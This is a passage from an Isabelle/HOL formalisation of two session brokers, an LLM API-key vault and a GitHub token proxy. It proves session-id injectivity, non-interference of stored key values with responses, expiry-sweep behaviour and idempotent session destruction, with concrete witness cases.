  have "n div 16 < 16" using assms by simp
  then have "toString16 (n div 16) = [digit_char (n div 16)]"
    by (simp add: toString16.simps [of "n div 16"])
  with False show ?thesis by (simp add: toString16.simps [of n])
qed

lemma length_padStart: "length (padStart n c s) = max n (length s)"
  by (simp add: padStart_def)

lemma length_byte_hex: "length (padStart 2 c (toString16 (unat (b :: 8 word)))) = 2"
proof -
  have "unat b < 256" using unsigned_less [of b, where ?'a = nat] by simp
  then have "length (toString16 (unat b)) \<le> 2" by (rule length_toString16_byte)
  then show ?thesis by (simp add: length_padStart)
qed

lemma length_concat_const:
  "(\<And>x. x \<in> set xs \<Longrightarrow> length (f x) = n) \<Longrightarrow> length (concat (map f xs)) = n * length xs"
  by (induction xs) auto

lemma length_generateSessionId: "length (generateSessionId r) = 64"
  unfolding generateSessionId_def
  by (subst length_concat_const [where n = 2]) (simp_all add: length_byte_hex)

lemma digit_char_inj:
  assumes "m < 16" "n < 16" "digit_char m = digit_char n"
  shows "m = n"
proof -
  have d: "distinct ''0123456789abcdef''" by simp
  have l: "length ''0123456789abcdef'' = 16" by simp
  from assms show ?thesis
    unfolding digit_char_def using nth_eq_iff_index_eq [OF d, of m n] l by simp
qed

lemma byte_hex:
  assumes "n < 256"
  shows "padStart 2 (CHR ''0'') (toString16 n) = [digit_char (n div 16), digit_char (n mod 16)]"
proof (cases "n < 16")
  case True
  then show ?thesis
    by (simp add: toString16.simps [of n] padStart_def digit_char_def)
next
  case False
  have "n div 16 < 16" using assms by simp
  then have "toString16 (n div 16) = [digit_char (n div 16)]"
    by (simp add: toString16.simps [of "n div 16"])
  with False show ?thesis by (simp add: toString16.simps [of n] padStart_def)
qed

lemma byte_hex_inj:
  fixes a b :: "8 word"
  assumes "padStart 2 (CHR ''0'') (toString16 (unat a)) = padStart 2 (CHR ''0'') (toString16 (unat b))"
  shows "a = b"
proof -
  have la: "unat a < 256" and lb: "unat b < 256"
    using unsigned_less [of a, where ?'a = nat] unsigned_less [of b, where ?'a = nat] by simp_all
  from assms have "digit_char (unat a div 16) = digit_char (unat b div 16)"
    and "digit_char (unat a mod 16) = digit_char (unat b mod 16)"
    by (simp_all add: byte_hex la lb)
  moreover have "unat a div 16 < 16" "unat b div 16 < 16" using la lb by simp_all
  ultimately have "unat a div 16 = unat b div 16" "unat a mod 16 = unat b mod 16"
    by (auto intro: digit_char_inj)
  then have "unat a = unat b" by (metis div_mult_mod_eq)
  then show ?thesis by (simp add: word_unat_eq_iff)
qed

lemma concat_map_eq_blocks:
  assumes "\<And>x. length (f x) = n" and "\<And>x. length (g x) = n" and "0 < n"
  shows "concat (map f xs) = concat (map g xs) \<Longrightarrow> (\<forall>x \<in> set xs. f x = g x)"
proof (induction xs)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  from Cons.prems have "f x @ concat (map f xs) = g x @ concat (map g xs)" by simp
  then have "f x = g x \<and> concat (map f xs) = concat (map g xs)"
    using assms(1,2) by (metis append_eq_append_conv)
  with Cons.IH show ?case by simp
qed

lemma generateSessionId_inj:
  assumes "generateSessionId r1 = generateSessionId r2" and "i < 32"
  shows "r1 i = r2 i"
proof -
  let ?f = "\<lambda>r i. padStart 2 (CHR ''0'') (toString16 (unat (r i :: 8 word)))"
  have "\<forall>i \<in> set [0..<32]. ?f r1 i = ?f r2 i"
    using assms(1) unfolding generateSessionId_def
    by (intro concat_map_eq_blocks [where n = 2]) (simp_all add: length_byte_hex)
  with assms(2) have "?f r1 i = ?f r2 i" by simp
  then show ?thesis by (rule byte_hex_inj)
qed

lemmas sweep_eval = llm_cleanupSessions_def gh_cleanupSessions_def cleanupSessions_def map_delete_def

section \<open>Facts about alike tables\<close>

lemma table_sim_Nil: "table_sim S [] []"
  by (simp add: table_sim_def)

lemma table_sim_map_get:
  "table_sim S t1 t2 \<Longrightarrow> rel_option S (map_get k t1) (map_get k t2)"
  unfolding table_sim_def map_get_def
  by (induction t1 t2 rule: list_all2_induct) auto

lemma table_sim_map_set:
  "table_sim S t1 t2 \<Longrightarrow> S v1 v2 \<Longrightarrow> table_sim S (map_set k v1 t1) (map_set k v2 t2)"
  unfolding table_sim_def
  by (induction t1 t2 rule: list_all2_induct) auto

lemma table_sim_map_delete:
  "table_sim S t1 t2 \<Longrightarrow> table_sim S (map_delete k t1) (map_delete k t2)"
  unfolding table_sim_def map_delete_def
  by (induction t1 t2 rule: list_all2_induct) auto

lemma table_sim_cleanup_loop:
  assumes "\<And>a b. S a b \<Longrightarrow> createdAt a = createdAt b"
  shows "table_sim S es1 es2 \<Longrightarrow> table_sim S t1 t2
         \<Longrightarrow> table_sim S (cleanup_loop ttl t es1 t1) (cleanup_loop ttl t es2 t2)"
  unfolding table_sim_def
proof (induction es1 es2 arbitrary: t1 t2 rule: list_all2_induct)
  case Nil
  then show ?case by simp
next
  case (Cons a as b bs)
  obtain k1 d1 k2 d2 where ab: "a = (k1, d1)" "b = (k2, d2)" by (cases a, cases b) auto
  with Cons.hyps(1) have k: "k1 = k2" and c: "createdAt d1 = createdAt d2"
    using assms by auto
  have "list_all2 (\<lambda>a b. fst a = fst b \<and> S (snd a) (snd b)) (map_delete k1 t1) (map_delete k1 t2)"
    using table_sim_map_delete [of S t1 t2 k1] Cons.prems by (simp add: table_sim_def)
  then show ?case
    unfolding ab cleanup_loop.simps k [symmetric] c [symmetric]
    using Cons.IH Cons.prems by simp
qed

lemma table_sim_cleanupSessions:
  assumes "\<And>a b. S a b \<Longrightarrow> createdAt a = createdAt b"
    and "table_sim S t1 t2"
  shows "table_sim S (cleanupSessions ttl t t1) (cleanupSessions ttl t t2)"
  unfolding cleanupSessions_def
  using table_sim_cleanup_loop [of S, OF assms(1) assms(2) assms(2)] .

lemma vault_sim_sweep:
  "table_sim sess_sim t1 t2
   \<Longrightarrow> table_sim sess_sim (llm_cleanupSessions t t1) (llm_cleanupSessions t t2)"
  unfolding llm_cleanupSessions_def
  by (rule table_sim_cleanupSessions) (simp_all add: sess_sim_def)


lemma map_fst_map_set:
  "map fst ps1 = map fst ps2 \<Longrightarrow> map fst (map_set p v1 ps1) = map fst (map_set p v2 ps2)"
proof (induction ps1 arbitrary: ps2)
  case Nil
  then show ?case by simp
next
  case (Cons a ps1)
  then obtain b ps2' where "ps2 = b # ps2'" by (cases ps2) auto
  with Cons show ?case by (cases a, cases b) auto
qed

lemma list_all_map_set:
  "list_all P ps \<Longrightarrow> P (p, v) \<Longrightarrow> list_all P (map_set p v ps)"
  by (induction ps) auto

lemma sess_sim_prop_set:
  "sess_sim s1 s2 \<Longrightarrow> k1 \<noteq> [] \<Longrightarrow> k2 \<noteq> []
   \<Longrightarrow> sess_sim (s1\<lparr>keys := prop_set p k1 (keys s1)\<rparr>) (s2\<lparr>keys := prop_set p k2 (keys s2)\<rparr>)"
  by (simp add: sess_sim_def prop_set_def map_fst_map_set list_all_map_set)

lemma map_fst_filter_key:
  "map fst (filter (\<lambda>e. fst e \<noteq> p) ps) = filter (\<lambda>k. k \<noteq> p) (map fst ps)"
  by (induction ps) auto

lemma sess_sim_prop_delete:
  "sess_sim s1 s2
   \<Longrightarrow> sess_sim (s1\<lparr>keys := prop_delete p (keys s1)\<rparr>) (s2\<lparr>keys := prop_delete p (keys s2)\<rparr>)"
  by (simp add: sess_sim_def prop_delete_def map_fst_filter_key list_all_iff)

lemma sess_sim_object_keys: "sess_sim s1 s2 \<Longrightarrow> object_keys (keys s1) = object_keys (keys s2)"
  by (simp add: sess_sim_def object_keys_def)

lemma prop_truthy_own:
  assumes "list_all (\<lambda>kv. snd kv \<noteq> []) ps"
  shows "prop_truthy p ps = (if p \<in> fst ` set ps then True else List.member object_prototype_names p)"
proof (cases "map_of ps p")
  case None
  then have "p \<notin> fst ` set ps" by (simp add: map_of_eq_None_iff)
  with None show ?thesis by (simp add: prop_truthy_def)
next
  case (Some v)
  then have "(p, v) \<in> set ps" by (rule map_of_SomeD)
  with assms have "v \<noteq> []" "p \<in> fst ` set ps" by (auto simp: list_all_iff intro: rev_image_eqI)
  with Some show ?thesis by (simp add: prop_truthy_def)
qed

lemma sess_sim_prop_truthy:
  assumes "sess_sim s1 s2"
  shows "prop_truthy p (keys s1) = prop_truthy p (keys s2)"
proof -
  have "fst ` set (keys s1) = fst ` set (keys s2)"
    using assms by (metis sess_sim_def set_map)
  then show ?thesis
    using assms by (simp add: sess_sim_def prop_truthy_own)
qed

lemma req_simD:
  assumes "req_sim r1 r2"
  shows "action r2 = action r1" "sessionId r2 = sessionId r1" "provider r2 = provider r1"
    "endpoint r2 = endpoint r1" "req_method r2 = req_method r1" "body r2 = body r1"
    "req_tokenType r2 = req_tokenType r1"
    "truthy (apiKey r2) = truthy (apiKey r1)" "truthy (req_token r2) = truthy (req_token r1)"
  using assms by (cases r1; cases r2; simp add: req_sim_def)+

lemma truthy_str: "truthy x \<Longrightarrow> str x \<noteq> []"
  by (cases x) auto

lemma llm_get_session_sim:
  assumes "table_sim sess_sim t1 t2" and "req_sim r1 r2"
  shows "fst (llm_get_session e t1 r1) = fst (llm_get_session e t2 r2)
       \<and> table_sim sess_sim (snd (llm_get_session e t1 r1)) (snd (llm_get_session e t2 r2))"
proof -
  let ?l1 = "if truthy (sessionId r1) then map_get (str (sessionId r1)) t1 else None"
  let ?l2 = "if truthy (sessionId r1) then map_get (str (sessionId r1)) t2 else None"
  have rel: "rel_option sess_sim ?l1 ?l2"
    using table_sim_map_get [OF assms(1)] by simp
  have new: "sess_sim \<lparr>createdAt = now e, keys = []\<rparr> \<lparr>createdAt = now e, keys = []\<rparr>"
    by (simp add: sess_sim_def)
  from rel show ?thesis
  proof (cases rule: option.rel_cases)
    case None
    then show ?thesis
      unfolding llm_get_session_def req_simD [OF assms(2)]
      using table_sim_map_set [OF assms(1) new] by (simp add: Let_def)
  next
    case (Some s1 s2)
    then show ?thesis
      unfolding llm_get_session_def req_simD [OF assms(2)]
      using assms(1) sess_sim_object_keys [OF Some(3)]
      by (simp add: providers_json_def sess_sim_def)
  qed
qed

lemma llm_set_key_sim:
  assumes "table_sim sess_sim t1 t2" and "req_sim r1 r2"
  shows "fst (llm_set_key e t1 r1) = fst (llm_set_key e t2 r2)
       \<and> table_sim sess_sim (snd (llm_set_key e t1 r1)) (snd (llm_set_key e t2 r2))"
proof (cases "falsy (sessionId r1) \<or> falsy (provider r1) \<or> falsy (apiKey r1)")
  case True
  then show ?thesis
    using assms(1) by (auto simp: llm_set_key_def req_simD [OF assms(2)] falsy_def)
next
  case False
  then have k: "str (apiKey r1) \<noteq> []" "str (apiKey r2) \<noteq> []"
    using req_simD(8) [OF assms(2)] by (auto simp: falsy_def truthy_str)
  let ?sid = "str (sessionId r1)"
  let ?new = "\<lparr>createdAt = now e, keys = []\<rparr> :: vault_session"
  let ?s1 = "case map_get ?sid t1 of None \<Rightarrow> ?new | Some s \<Rightarrow> s"
  let ?s2 = "case map_get ?sid t2 of None \<Rightarrow> ?new | Some s \<Rightarrow> s"
  have "rel_option sess_sim (map_get ?sid t1) (map_get ?sid t2)"
    by (rule table_sim_map_get [OF assms(1)])
  then have s: "sess_sim ?s1 ?s2"
    by (cases rule: option.rel_cases) (simp_all add: sess_sim_def)
  note s' = sess_sim_prop_set [OF s k, of "str (provider r1)"]
  have "llm_set_key e t1 r1 =
          (json_response 200
             (JObj [(''success'', JBool True),
                    (''providers'', providers_json (prop_set (str (provider r1)) (str (apiKey r1)) (keys ?s1)))]),
           map_set ?sid (?s1\<lparr>keys := prop_set (str (provider r1)) (str (apiKey r1)) (keys ?s1)\<rparr>) t1)"
    using False by (simp add: llm_set_key_def Let_def)
  moreover have "llm_set_key e t2 r2 =
          (json_response 200
             (JObj [(''success'', JBool True),
                    (''providers'', providers_json (prop_set (str (provider r1)) (str (apiKey r2)) (keys ?s2)))]),
           map_set ?sid (?s2\<lparr>keys := prop_set (str (provider r1)) (str (apiKey r2)) (keys ?s2)\<rparr>) t2)"
    using False req_simD(8) [OF assms(2)]
    by (simp add: llm_set_key_def Let_def req_simD(1-7) [OF assms(2)] falsy_def)
  ultimately show ?thesis
    using table_sim_map_set [OF assms(1) s'] sess_sim_object_keys [OF s']
    by (simp add: providers_json_def)
qed

lemma llm_remove_key_sim:
  assumes "table_sim sess_sim t1 t2" and "req_sim r1 r2"
  shows "fst (llm_remove_key t1 r1) = fst (llm_remove_key t2 r2)
       \<and> table_sim sess_sim (snd (llm_remove_key t1 r1)) (snd (llm_remove_key t2 r2))"
proof -
  let ?sid = "str (sessionId r1)"
  have "rel_option sess_sim (map_get ?sid t1) (map_get ?sid t2)"
    by (rule table_sim_map_get [OF assms(1)])
  then show ?thesis
  proof (cases rule: option.rel_cases)
    case None
    then show ?thesis
      using assms(1) by (simp add: llm_remove_key_def req_simD [OF assms(2)])
  next
    case (Some s1 s2)
    note s' = sess_sim_prop_delete [OF Some(3), of "str (provider r1)"]
    show ?thesis
      using Some(1,2) assms(1) table_sim_map_set [OF assms(1) s'] sess_sim_object_keys [OF s']
      by (simp add: llm_remove_key_def req_simD [OF assms(2)] providers_json_def Let_def)
  qed
qed

lemma llm_check_key_sim:
  assumes "table_sim sess_sim t1 t2" and "req_sim r1 r2"
  shows "fst (llm_check_key t1 r1) = fst (llm_check_key t2 r2)
       \<and> table_sim sess_sim (snd (llm_check_key t1 r1)) (snd (llm_check_key t2 r2))"
proof -
  let ?sid = "str (sessionId r1)"
  have "rel_option sess_sim (map_get ?sid t1) (map_get ?sid t2)"
    by (rule table_sim_map_get [OF assms(1)])
  then show ?thesis
  proof (cases rule: option.rel_cases)
    case None
    then show ?thesis
      using assms(1) by (simp add: llm_check_key_def req_simD [OF assms(2)])
  next
    case (Some s1 s2)
    show ?thesis
      using Some(1,2) assms(1) sess_sim_prop_truthy [OF Some(3)]
      by (simp add: llm_check_key_def req_simD [OF assms(2)])
  qed
qed

lemma llm_destroy_session_sim:
  assumes "table_sim sess_sim t1 t2" and "req_sim r1 r2"
  shows "fst (llm_destroy_session t1 r1) = fst (llm_destroy_session t2 r2)
       \<and> table_sim sess_sim (snd (llm_destroy_session t1 r1)) (snd (llm_destroy_session t2 r2))"
  using assms(1) table_sim_map_delete [OF assms(1)]
  by (simp add: llm_destroy_session_def req_simD [OF assms(2)])

lemma llm_action_sim:
  assumes "table_sim sess_sim t1 t2" and "req_sim r1 r2"
  shows "fst (llm_action e t1 r1) = fst (llm_action e t2 r2)
       \<and> table_sim sess_sim (snd (llm_action e t1 r1)) (snd (llm_action e t2 r2))"
  unfolding llm_action_def req_simD(1) [OF assms(2)]
  using llm_get_session_sim [OF assms] llm_set_key_sim [OF assms] llm_remove_key_sim [OF assms]
    llm_check_key_sim [OF assms] llm_destroy_session_sim [OF assms] assms(1)
  by simp

lemma llm_proxy_sim:
  assumes "table_sim sess_sim t1 t2" and "http_sim rq1 rq2"
  shows "fst (llm_proxy e t1 rq1) = fst (llm_proxy e t2 rq2)
       \<and> table_sim sess_sim (snd (llm_proxy e t1 rq1)) (snd (llm_proxy e t2 rq2))"
proof -
  note sw = vault_sim_sweep [OF assms(1), of "sweep_now e"]
  from assms(2) have m: "http_method rq2 = http_method rq1" by (simp add: http_sim_def)
  show ?thesis
  proof (cases "payload rq1")
    case (Inl msg)
    with assms(2) have "payload rq2 = Inl msg"
      by (auto simp: http_sim_def split: sum.splits)
    with Inl show ?thesis using assms(1) sw by (simp add: llm_proxy_def m)
  next
    case (Inr r1)
    with assms(2) obtain r2 where r2: "payload rq2 = Inr r2" "req_sim r1 r2"
      by (auto simp: http_sim_def split: sum.splits)
    show ?thesis
      using Inr r2(1) assms(1) llm_action_sim [OF sw r2(2), of e]
      by (simp add: llm_proxy_def m)
  qed
qed










text \<open>
  Over a whole sequence of requests to the vault, from alike tables, the answers are the
  same whatever key values the requests carry.
\<close>

lemma llm_run_sim:
  "list_all2 (\<lambda>a b. fst a = fst b \<and> http_sim (snd a) (snd b)) xs ys
   \<Longrightarrow> table_sim sess_sim t1 t2 \<Longrightarrow> llm_run t1 xs = llm_run t2 ys"
proof (induction xs ys arbitrary: t1 t2 rule: list_all2_induct)
  case Nil
  then show ?case by simp
next
  case (Cons a as b bs)
  obtain e rq1 rq2 where ab: "a = (e, rq1)" "b = (e, rq2)" and h: "http_sim rq1 rq2"
    using Cons.hyps(1) by (cases a, cases b) auto
  note step = llm_proxy_sim [OF Cons.prems h, of e]
  show ?case
    unfolding ab llm_run.simps using step Cons.IH by simp
qed

lemma llm_run_from_empty:
  "list_all2 (\<lambda>a b. fst a = fst b \<and> http_sim (snd a) (snd b)) xs ys
   \<Longrightarrow> llm_run [] xs = llm_run [] ys"
  by (rule llm_run_sim) (simp_all add: table_sim_Nil)


lemma map_get_other_map_set: "k \<noteq> k' \<Longrightarrow> map_get k (map_set k' v tbl) = map_get k tbl"
  by (simp add: map_get_map_set)

section \<open>Expiry\<close>

text \<open>
  C4. The sweep keeps exactly the entries whose age \<open>t - createdAt\<close> is at most the
  time to live, 86400000 ms for the vault and 3600000 ms for the bearer-token broker, in
  their order; so a session created at \<open>T\<close> is found up to \<open>T + ttl\<close> and not after.
  Every request other than the preflight runs its action on the swept table.
\<close>

theorem expiry_sweep:
  assumes "table_ok vt" and "table_ok gt"
  shows "llm_cleanupSessions t vt = filter (\<lambda>en. t - createdAt (snd en) \<le> 86400000) vt
       \<and> gh_cleanupSessions t gt = filter (\<lambda>en. t - createdAt (snd en) \<le> 3600000) gt
       \<and> map_get sid (llm_cleanupSessions t vt) =
           (case map_get sid vt of
              None \<Rightarrow> None
            | Some d \<Rightarrow> if t \<le> createdAt d + 86400000 then Some d else None)
       \<and> map_get sid (gh_cleanupSessions t gt) =
           (case map_get sid gt of
              None \<Rightarrow> None
            | Some d \<Rightarrow> if t \<le> createdAt d + 3600000 then Some d else None)
       \<and> (m \<noteq> ''OPTIONS'' \<longrightarrow>
            llm_proxy e vt \<lparr>http_method = m, payload = Inr r\<rparr>
              = llm_action e (llm_cleanupSessions (sweep_now e) vt) r
          \<and> github_proxy e f gt \<lparr>http_method = m, payload = Inr r\<rparr>
              = gh_action e f (gh_cleanupSessions (sweep_now e) gt) r)"
proof -
  have a: "llm_cleanupSessions t vt = filter (\<lambda>en. t - createdAt (snd en) \<le> 86400000) vt"
    unfolding llm_cleanupSessions_def using assms(1) by (rule cleanupSessions_filter)
  have b: "gh_cleanupSessions t gt = filter (\<lambda>en. t - createdAt (snd en) \<le> 3600000) gt"
    unfolding gh_cleanupSessions_def using assms(2) by (rule cleanupSessions_filter)
  have c: "map_get sid (llm_cleanupSessions t vt) =
           (case map_get sid vt of
              None \<Rightarrow> None
            | Some d \<Rightarrow> if t \<le> createdAt d + 86400000 then Some d else None)"
    unfolding llm_cleanupSessions_def map_get_cleanupSessions [OF assms(1)]
    by (auto split: option.splits)
  have d: "map_get sid (gh_cleanupSessions t gt) =
           (case map_get sid gt of
              None \<Rightarrow> None
            | Some d \<Rightarrow> if t \<le> createdAt d + 3600000 then Some d else None)"
    unfolding gh_cleanupSessions_def map_get_cleanupSessions [OF assms(2)]
    by (auto split: option.splits)
  have e: "m \<noteq> ''OPTIONS'' \<longrightarrow>
            llm_proxy e vt \<lparr>http_method = m, payload = Inr r\<rparr>
              = llm_action e (llm_cleanupSessions (sweep_now e) vt) r
          \<and> github_proxy e f gt \<lparr>http_method = m, payload = Inr r\<rparr>
              = gh_action e f (gh_cleanupSessions (sweep_now e) gt) r"
    by (simp add: llm_proxy_def github_proxy_def)
  from a b c d e show ?thesis by blast
qed

theorem expiry_sweep_witness:
  "table_ok [(''a'', \<lparr>createdAt = 0, keys = []\<rparr>), (''b'', \<lparr>createdAt = 1000, keys = []\<rparr>)]
   \<and> table_ok [(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)]
   \<and> map_get ''a'' (llm_cleanupSessions 86400000
         [(''a'', \<lparr>createdAt = 0, keys = []\<rparr>), (''b'', \<lparr>createdAt = 1000, keys = []\<rparr>)])
       = Some \<lparr>createdAt = 0, keys = []\<rparr>
   \<and> llm_cleanupSessions 86400001
         [(''a'', \<lparr>createdAt = 0, keys = []\<rparr>), (''b'', \<lparr>createdAt = 1000, keys = []\<rparr>)]
       = [(''b'', \<lparr>createdAt = 1000, keys = []\<rparr>)]
   \<and> map_get ''g'' (gh_cleanupSessions 3600005
         [(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)])
       = Some \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>
   \<and> gh_cleanupSessions 3600006
         [(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)] = []
   \<and> ''POST'' \<noteq> ''OPTIONS''
   \<and> fst (github_proxy (env_at 3600006) unreachable
          [(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)]
          \<lparr>http_method = ''POST'',
           payload = Inr (no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''g'',
                                    endpoint := Some ''/user''\<rparr>)\<rparr>)
       = error_response 401 ''Invalid or expired session''"
proof -
  let ?vt = "[(''a'', \<lparr>createdAt = 0, keys = []\<rparr>), (''b'', \<lparr>createdAt = 1000, keys = []\<rparr>)]"
  let ?gt = "[(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)]"
  have v: "table_ok ?vt" and g: "table_ok ?gt" by (simp_all add: table_ok_def)
  show ?thesis
    using v g expiry_sweep [OF v g, where t = 86400000 and sid = "''a''"]
      expiry_sweep [OF v g, where t = 86400001 and sid = "''a''"]
      expiry_sweep [OF v g, where t = 3600005 and sid = "''g''"]
      expiry_sweep [OF v g, where t = 3600006 and sid = "''g''" and m = "''POST''"
                      and e = "env_at 3600006" and f = unreachable
                      and r = "no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''g'',
                                    endpoint := Some ''/user''\<rparr>"]
    by (simp add: map_get_def env_at_def gh_action_def gh_proxy_def no_fields_def falsy_def)
qed

section \<open>Destroying a session\<close>

text \<open>
  C8. \<open>destroy_session\<close> answers \<open>{success: true}\<close> with status 200 in both brokers,
  whatever the session id. When the id is omitted, empty or not in the (swept) table,
  the table the request leaves is the swept table itself: the action changes nothing.
  Otherwise the entry is deleted. Repeating the request is answered with success again
  and does nothing beyond its own sweep.
\<close>

theorem destroy_session_idempotent:
  assumes "http_method rq \<noteq> ''OPTIONS''"
    and "payload rq = Inr r"
    and "action r = Some ''destroy_session''"
  shows "fst (llm_proxy e vt rq) = json_response 200 (JObj [(''success'', JBool True)])
       \<and> fst (github_proxy e f gt rq) = json_response 200 (JObj [(''success'', JBool True)])
       \<and> (falsy (sessionId r)
            \<or> map_get (str (sessionId r)) (llm_cleanupSessions (sweep_now e) vt) = None
          \<longrightarrow> snd (llm_proxy e vt rq) = llm_cleanupSessions (sweep_now e) vt)
       \<and> (falsy (sessionId r)
            \<or> map_get (str (sessionId r)) (gh_cleanupSessions (sweep_now e) gt) = None
          \<longrightarrow> fst (snd (github_proxy e f gt rq)) = gh_cleanupSessions (sweep_now e) gt)
       \<and> (truthy (sessionId r)
          \<longrightarrow> snd (llm_proxy e vt rq)
                = map_delete (str (sessionId r)) (llm_cleanupSessions (sweep_now e) vt)
            \<and> fst (snd (github_proxy e f gt rq))
                = map_delete (str (sessionId r)) (gh_cleanupSessions (sweep_now e) gt))
       \<and> llm_proxy e' (snd (llm_proxy e vt rq)) rq
           = (json_response 200 (JObj [(''success'', JBool True)]),
              llm_cleanupSessions (sweep_now e') (snd (llm_proxy e vt rq)))
       \<and> github_proxy e' f' (fst (snd (github_proxy e f gt rq))) rq
           = (json_response 200 (JObj [(''success'', JBool True)]),
              gh_cleanupSessions (sweep_now e') (fst (snd (github_proxy e f gt rq))), [])"
proof -
  let ?ok = "json_response 200 (JObj [(''success'', JBool True)])"
  have l: "llm_proxy e vt rq =
        (?ok, if truthy (sessionId r)
              then map_delete (str (sessionId r)) (llm_cleanupSessions (sweep_now e) vt)
              else llm_cleanupSessions (sweep_now e) vt)" for e vt
    using assms by (simp add: llm_proxy_def llm_action_def llm_destroy_session_def)
  have g: "github_proxy e f gt rq =
        (?ok, (if truthy (sessionId r)
              then map_delete (str (sessionId r)) (gh_cleanupSessions (sweep_now e) gt)
              else gh_cleanupSessions (sweep_now e) gt), [])" for e f gt
    using assms by (simp add: github_proxy_def gh_action_def gh_destroy_session_def)
  have ld: "map_delete k (llm_cleanupSessions t (map_delete k tbl)) = llm_cleanupSessions t (map_delete k tbl)"
    for k t tbl
    by (rule map_delete_absent)
       (simp add: llm_cleanupSessions_def map_get_cleanupSessions_None map_get_map_delete)
  have gd: "map_delete k (gh_cleanupSessions t (map_delete k tbl)) = gh_cleanupSessions t (map_delete k tbl)"
    for k t tbl
    by (rule map_delete_absent)
       (simp add: gh_cleanupSessions_def map_get_cleanupSessions_None map_get_map_delete)
  show ?thesis
    unfolding l g by (auto simp: falsy_def map_delete_absent ld gd)
qed

theorem destroy_session_idempotent_witness:
  "http_method (post (no_fields\<lparr>action := Some ''destroy_session'', sessionId := Some ''zz''\<rparr>))
     \<noteq> ''OPTIONS''
   \<and> map_get ''zz'' (llm_cleanupSessions 10 [(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>)])
       = None
   \<and> map_get ''zz'' (gh_cleanupSessions 10 [(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)])
       = None
   \<and> fst (llm_proxy (env_at 10) [(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>)]
         (post (no_fields\<lparr>action := Some ''destroy_session'', sessionId := Some ''zz''\<rparr>)))
       = json_response 200 (JObj [(''success'', JBool True)])
   \<and> snd (llm_proxy (env_at 10) [(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>)]
         (post (no_fields\<lparr>action := Some ''destroy_session'', sessionId := Some ''zz''\<rparr>)))
       = [(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>)]
   \<and> fst (snd (github_proxy (env_at 10) unreachable
         [(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)]
         (post (no_fields\<lparr>action := Some ''destroy_session'', sessionId := Some ''zz''\<rparr>))))
       = [(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)]
   \<and> truthy (sessionId (no_fields\<lparr>action := Some ''destroy_session'', sessionId := Some ''a''\<rparr>))
   \<and> snd (llm_proxy (env_at 10) [(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>)]
         (post (no_fields\<lparr>action := Some ''destroy_session'', sessionId := Some ''a''\<rparr>)))
       = []"
proof -
  let ?r = "no_fields\<lparr>action := Some ''destroy_session'', sessionId := Some ''zz''\<rparr>"
  let ?r' = "no_fields\<lparr>action := Some ''destroy_session'', sessionId := Some ''a''\<rparr>"
  let ?vt = "[(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>)]"
  let ?gt = "[(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)]"
  have m: "http_method (post r) \<noteq> ''OPTIONS''" and p: "payload (post r) = Inr r" for r
    by (simp_all add: post_def)
  have a: "action ?r = Some ''destroy_session''" and a': "action ?r' = Some ''destroy_session''"
    by (simp_all add: no_fields_def)
  have sw: "llm_cleanupSessions (sweep_now (env_at 10)) ?vt = ?vt"
    "gh_cleanupSessions (sweep_now (env_at 10)) ?gt = ?gt"
    "llm_cleanupSessions 10 ?vt = ?vt" "gh_cleanupSessions 10 ?gt = ?gt"
    by (simp_all add: sweep_eval env_at_def)
  have s: "str (sessionId ?r) = ''zz''" "str (sessionId ?r') = ''a''" "truthy (sessionId ?r')"
    by (simp_all add: no_fields_def)
  have n: "map_get ''zz'' ?vt = None" "map_get ''zz'' ?gt = None" "map_delete ''a'' ?vt = []"
    by (simp_all add: map_get_def map_delete_def)
  note t1 = destroy_session_idempotent [OF m p a, of "env_at 10" ?vt unreachable ?gt]
  note t2 = destroy_session_idempotent [OF m p a', of "env_at 10" ?vt unreachable ?gt]
  have "fst (llm_proxy (env_at 10) ?vt (post ?r)) = json_response 200 (JObj [(''success'', JBool True)])"
    using t1 by blast
  moreover have "snd (llm_proxy (env_at 10) ?vt (post ?r)) = ?vt"
    using t1 n unfolding sw s by blast
  moreover have "fst (snd (github_proxy (env_at 10) unreachable ?gt (post ?r))) = ?gt"
    using t1 n unfolding sw s by blast
  moreover have "snd (llm_proxy (env_at 10) ?vt (post ?r')) = []"
    using t2 s n unfolding sw s by metis
  ultimately show ?thesis
    using m s n unfolding sw by blast
qed

section \<open>The vault's sessions\<close>

text \<open>
  C9, as the code has it. \<open>get_session\<close> without a session id, or with one that the
  swept table does not hold, stores a new session with no keys under a freshly generated
  id and answers with that id, an empty provider list and \<open>expiresIn = 86400\<close>. The
  table then holds the new session under the new id and is otherwise as swept, the session
  being appended when the id was not in use; the id has 64 characters and determines all
  32 random bytes it was printed from. With the id of a live session the answer carries
  the same id, the names of that session's own keys and
  \<open>max(0, 86400 - floor((now - createdAt) / 1000))\<close>, and the table is left as swept.
  That number is never negative. It is at most 86400 when the clock reading is not earlier
  than the session's creation time, and above 86400 when it is earlier.
\<close>

theorem get_session_behaviour:
  assumes "http_method rq \<noteq> ''OPTIONS''"
    and "payload rq = Inr r"
    and "action r = Some ''get_session''"
    and "tbl0 = llm_cleanupSessions (sweep_now e) vt"
    and "newId = generateSessionId (rnd e)"
    and "tbl1 = map_set newId \<lparr>createdAt = now e, keys = []\<rparr> tbl0"
  shows "(falsy (sessionId r) \<or> map_get (str (sessionId r)) tbl0 = None
          \<longrightarrow> llm_proxy e vt rq
